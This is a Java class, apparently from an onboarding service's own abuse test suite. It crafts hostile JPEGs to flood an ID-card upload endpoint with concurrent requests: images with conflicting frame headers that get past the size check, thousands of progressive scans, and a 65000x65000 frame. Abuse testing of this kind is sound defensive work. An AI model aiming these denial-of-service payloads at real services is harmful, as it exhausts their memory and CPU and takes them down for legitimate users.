package vn.ocb.onboarding.load.abuse;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.List;
import java.util.concurrent.Executors;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.function.BooleanSupplier;

/** Uploads that would take memory or minutes of work if they were taken as they come. */
final class HostilePictures {
    private static final int AT_A_TIME = 30;
    private static final int LARGE = 9_000_000;
    private static final String BOUNDARY = "a-boundary-7f3a";
    private static final AtomicInteger ONBOARDINGS = new AtomicInteger(100);

    /** Many at a time, all for the same step of the same onboarding. */
    static void uploads(Target target, Tally tally, BooleanSupplier more) throws Exception {
        var id = target.onboarding(ONBOARDINGS.incrementAndGet());
        var token = target.partner().token();
        var body = body(Arrays.copyOf(twoFrames(), LARGE));
        try (var senders = Executors.newVirtualThreadPerTaskExecutor()) {
            for (var i = 0; i < AT_A_TIME; i++) {
                senders.execute(() -> {
                    while (more.getAsBoolean()) {
                        tally.answered(upload(target, token, id, body));
                        Attacks.pause(300);
                    }
                });
            }
        }
    }

    /** Each in an onboarding of its own, so that no count of attempts ends it. */
    static void look(Target target, Tally tally, BooleanSupplier more) throws Exception {
        var token = target.partner().token();
        var pictures = List.of(twoFrames(), manyScans(20_000), hugeFrame(), Arrays.copyOf(manyScans(2), 60));
        for (var number = 0; more.getAsBoolean(); number++) {
            var id = target.onboarding(ONBOARDINGS.incrementAndGet());
            tally.answered(upload(target, token, id, body(pictures.get(number % pictures.size()))));
        }
    }

    /** The same picture as front and as back. */
    private static byte[] body(byte[] picture) {
        var body = new ByteArrayOutputStream(2 * picture.length + 1000);
        for (var side : List.of("front", "back")) {
            body.writeBytes(("--" + BOUNDARY + "\r\nContent-Disposition: form-data; name=\"" + side
                            + "\"; filename=\"a.jpg\"\r\nContent-Type: image/jpeg\r\n\r\n")
                    .getBytes(StandardCharsets.ISO_8859_1));
            body.writeBytes(picture);
            body.writeBytes("\r\n".getBytes(StandardCharsets.ISO_8859_1));
        }
        body.writeBytes(("--" + BOUNDARY + "--\r\n").getBytes(StandardCharsets.ISO_8859_1));
        return body.toByteArray();
    }

    private static int upload(Target target, String token, String id, byte[] body) {
        var head = "POST /v1/onboardings/" + id + "/id-card HTTP/1.1\r\nHost: " + target.host()
                + "\r\nAuthorization: Bearer " + token + "\r\nIdempotency-Key: " + System.nanoTime()
                + "\r\nContent-Type: multipart/form-data; boundary=" + BOUNDARY
                + "\r\nConnection: close\r\nContent-Length: " + body.length + "\r\n\r\n";
        try (var socket = target.connect(28)) {
            socket.getOutputStream().write(head.getBytes(StandardCharsets.ISO_8859_1));
            socket.getOutputStream().write(body);
            return Target.status(socket.getInputStream());
        } catch (IOException e) {
            return 0;
        }
    }

    /** The size limit would read the second frame header, the decoder the first: 20000 x 5000 pixels. */
    private static byte[] twoFrames() {
        var jpeg = begin(0xC0, 20_000, 5000);
        jpeg.writeBytes(scan(0, 63));
        jpeg.writeBytes(new byte[32]);
        jpeg.writeBytes(frame(0xC0, 1200, 900));
        return end(jpeg);
    }

    /** Each scan of a progressive picture is a walk over all of its coefficients. */
    private static byte[] manyScans(int scans) {
        var jpeg = begin(0xC2, 4000, 2800);
        for (var i = 0; i < scans; i++) {
            jpeg.writeBytes(scan(0, 0));
            jpeg.write(0);
        }
        return end(jpeg);
    }

    private static byte[] hugeFrame() {
        var jpeg = begin(0xC0, 65_000, 65_000);
        jpeg.writeBytes(scan(0, 63));
        return end(jpeg);
    }

    private static ByteArrayOutputStream begin(int kind, int width, int height) {
        var jpeg = new ByteArrayOutputStream();
        jpeg.writeBytes(new byte[] {(byte) 0xFF, (byte) 0xD8});
        var table = new byte[65];
        Arrays.fill(table, 1, table.length, (byte) 16);
        jpeg.writeBytes(segment(0xDB, table));
        jpeg.writeBytes(frame(kind, width, height));
        jpeg.writeBytes(codes(0x00, 0, 1));
        jpeg.writeBytes(codes(0x10, 0, 0xE0));
        return jpeg;
    }

    private static byte[] end(ByteArrayOutputStream jpeg) {
        jpeg.writeBytes(new byte[] {(byte) 0xFF, (byte) 0xD9});
        return jpeg.toByteArray();
    }

    private static byte[] frame(int kind, int width, int height) {
        return segment(
                kind,
                new byte[] {8, (byte) (height >> 8), (byte) height, (byte) (width >> 8), (byte) width, 1, 1, 0x11, 0});
    }

    private static byte[] codes(int table, int first, int second) {
        var body = new byte[19];
        body[0] = (byte) table;
        body[1] = 1;
        body[2] = 1;
        body[17] = (byte) first;
        body[18] = (byte) second;
        return segment(0xC4, body);
    }

    private static byte[] scan(int from, int to) {
        return segment(0xDA, new byte[] {1, 1, 0, (byte) from, (byte) to, 0});
    }

    private static byte[] segment(int marker, byte[] body) {
        var bytes = new ByteArrayOutputStream();
        bytes.write(0xFF);
        bytes.write(marker);
        bytes.write((body.length + 2) >> 8);
        bytes.write(body.length + 2);
        bytes.writeBytes(body);
        return bytes.toByteArray();
    }

    private HostilePictures() {}
}
